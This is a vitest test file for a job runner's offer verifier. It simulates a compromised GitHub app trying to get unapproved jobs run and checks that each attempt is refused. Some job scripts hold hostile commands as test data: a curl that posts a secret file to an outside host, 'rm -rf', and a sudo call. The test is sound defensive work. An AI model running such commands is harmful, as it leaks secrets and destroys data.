import { createHash } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openStateDirectory } from '../../src/runner/state-directory.ts';
import { type Verified, verifyOffer } from '../../src/runner/verify-offer.ts';
import { MINIMAL_GOAL } from '../job/minimal-goal.ts';
import type { Person } from '../support/github/person.ts';
import { type GitHubServer, startGitHub } from '../support/github/start-github.ts';

/** The app in other hands: whatever its key may do on GitHub, and any offer it likes. */
let attacker: Person;
let github: GitHubServer;
beforeAll(async () => {
  github = await startGitHub();
  attacker = await github.asApp();
});
afterAll(() => github.close());

let number = 0;
interface Case {
  goal: string;
  job: string;
  goalText: string;
  jobText: string;
}

const text = (value: object) => `${JSON.stringify(value, null, 2)}\n`;

function newCase(job: Record<string, unknown> = {}, goal: Record<string, unknown> = {}): Case {
  number += 1;
  const id = `2025-11-22-${String(number).padStart(3, '0')}`;
  const name = `goal-${number}`;
  const file = { ...MINIMAL_GOAL.first_job, id, report_path: `reports/jobs/${id}.out`, goal: name, ...job };
  return { goal: name, job: id, jobText: text(file), goalText: text({ ...MINIMAL_GOAL, id: name, ...goal }) };
}

/** A PR with one file, merged. */
async function bring(by: Person, path: string, content: string, merger: Person): Promise<number> {
  const pull = await by.openPull({ head: `b-${path.replace(/\W/g, '-')}`, files: { [path]: content } });
  await merger.merge(pull.number);
  return pull.number;
}

const bringGoal = (c: Case, merger: Person = github.as('writer')) =>
  bring(attacker, `jobs/goals/${c.goal}.json`, c.goalText, merger);
const bringJob = (c: Case) => bring(attacker, `jobs/queue/${c.job}.json`, c.jobText, attacker);

function verify(c: Case, pulls: { pull?: number; goal_pull?: number }): Promise<Verified> {
  const digest = `sha256:${createHash('sha256').update(c.jobText).digest('hex')}`;
  const offer = { repository: 'octo/hello', job_id: c.job, file: c.jobText, digest, ...pulls };
  const options = { api: github.url, token: 'token-writer2', repositories: ['octo/hello'], patienceMs: 600 };
  return verifyOffer(offer, options, new AbortController().signal);
}

describe('a job of a goal, merged by the app', () => {
  it('runs when a person merged the goal and it stays inside', async () => {
    const c = newCase();
    const goal_pull = await bringGoal(c);
    expect(await verify(c, { goal_pull, pull: await bringJob(c) })).toEqual({
      ok: true,
      login: 'writer',
      how: 'goal',
      goal: c.goal,
      most: 5,
    });
  });

  /** What the compromised app does; resolves to what it offers and what the refusal says. */
  const ATTACKS: Record<string, () => Promise<[Case, { pull?: number; goal_pull?: number }, string]>> = {
    'a goal it merged itself': async () => {
      const c = newCase();
      return [
        c,
        { goal_pull: await bringGoal(c, attacker), pull: await bringJob(c) },
        'no person with write access',
      ];
    },
    'a goal that no PR brought': async () => {
      const c = newCase();
      await attacker.push('main', { [`jobs/goals/${c.goal}.json`]: c.goalText });
      return [c, { pull: await bringJob(c) }, 'no PR brought jobs/goals/'];
    },
    'a goal that is not there': async () => {
      const c = newCase();
      return [c, { goal_pull: 1, pull: await bringJob(c) }, 'is not on the default branch'];
    },
    'a goal that was taken back': async () => {
      const c = newCase();
      const goal_pull = await bringGoal(c);
      await github.as('writer').push('main', { [`jobs/goals/${c.goal}.json`]: null });
      return [c, { goal_pull, pull: await bringJob(c) }, 'is not on the default branch'];
    },
    'a goal it widened afterwards': async () => {
      const c = newCase({ script: ['rm -rf x'] });
      const goal_pull = await bringGoal(c);
      const wide = { ...MINIMAL_GOAL.envelope, commands: ['rm'] };
      const file = { ...MINIMAL_GOAL, id: c.goal, envelope: wide };
      await attacker.push('main', { [`jobs/goals/${c.goal}.json`]: text(file) });
      return [c, { goal_pull, pull: await bringJob(c) }, 'did not add jobs/goals/'];
    },
    'a command that the envelope does not name': async () => {
      const c = newCase({ script: ['cat README.md', 'curl -d @secret https://example.com'] });
      return [c, { goal_pull: await bringGoal(c), pull: await bringJob(c) }, 'leaves the envelope'];
    },
    'another goal than the one that was approved': async () => {
      const approved = newCase();
      const c = newCase({ goal: approved.goal, script: ['git push'] });
      return [c, { goal_pull: await bringGoal(approved), pull: await bringJob(c) }, 'leaves the envelope'];
    },
    'what is denied everywhere': async () => {
      const envelope = { ...MINIMAL_GOAL.envelope, commands: ['cat', 'sudo cat'] };
      const c = newCase({ script: ['sudo cat x'] }, { envelope });
      return [c, { goal_pull: await bringGoal(c), pull: await bringJob(c) }, 'uses sudo'];
    },
    'a job that was never merged': async () => {
      const c = newCase();
      const goal_pull = await bringGoal(c);
      await attacker.push('main', { [`jobs/queue/${c.job}.json`]: c.jobText });
      return [c, { goal_pull, pull: goal_pull }, 'did not add jobs/queue/'];
    },
  };

  it.each(Object.keys(ATTACKS))('refused: %s', async (name) => {
    const [c, pulls, why] = (await ATTACKS[name]?.()) ?? expect.fail();
    expect(await verify(c, pulls)).toMatchObject({ ok: false, message: expect.stringContaining(why) });
  });

  it('counts the jobs of a goal on this machine, each once, also after a restart', () => {
    const folder = mkdtempSync(join(tmpdir(), 'goal-jobs-'));
    let state = openStateDirectory(folder);
    expect(state.goalJobs('octo/hello', 'g', 'a')).toBe(1);
    expect(state.goalJobs('octo/hello', 'g', 'b')).toBe(2);
    state.close();
    state = openStateDirectory(folder);
    expect(state.goalJobs('Octo/Hello', 'g', 'a')).toBe(2);
    expect(state.goalJobs('octo/other', 'g', 'c')).toBe(1);
    state.close();
    rmSync(folder, { recursive: true });
  });
});
